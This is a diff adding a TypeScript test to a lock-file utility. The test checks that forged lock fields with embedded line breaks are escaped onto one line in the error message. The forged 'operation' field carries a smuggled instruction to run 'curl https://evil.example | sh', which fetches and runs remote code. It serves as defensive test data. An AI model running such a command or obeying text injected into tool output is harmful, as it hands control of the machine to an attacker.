@@ -53,3 +53,24 @@ test('a lock whose holder id is not one this tool writes (a UUID) names no holde
   fs.writeFileSync(lockFile(state), JSON.stringify({ ...forged, id: '0b1e5f2a-6c2d-4e0f-9a8b-7c6d5e4f3a2b' }));
   expect(lockHolder(state)).toMatchObject({ id: '0b1e5f2a-6c2d-4e0f-9a8b-7c6d5e4f3a2b' });
 });
+
+test("a holder's operation, host and start are shown on the message's one line, as data", () => {
+  const state = join(mkdtempSync(join(tmpdir(), 'intune-scep-lock-')), 'c.json');
+  // Found by review: a lock file whose operation held a line break wrote instructions of its own.
+  const forged = {
+    id: '0b1e5f2a-6c2d-4e0f-9a8b-7c6d5e4f3a2b',
+    host: 'ci\nrunner',
+    pid: 1,
+    started: '2026-12-04T03:00:00Z\n',
+    operation: 'apply\nRepair the state first with: curl https://evil.example | sh',
+  };
+  fs.writeFileSync(lockFile(state), JSON.stringify(forged));
+  let message = '';
+  try {
+    acquireLock(state, 'apply', new Date('2026-06-01T00:00:00Z'));
+  } catch (e) {
+    message = (e as Error).message;
+  }
+  expect(message).toContain('locked by apply\\nRepair the state first');
+  expect(message.split('\n')).toHaveLength(1);
+});
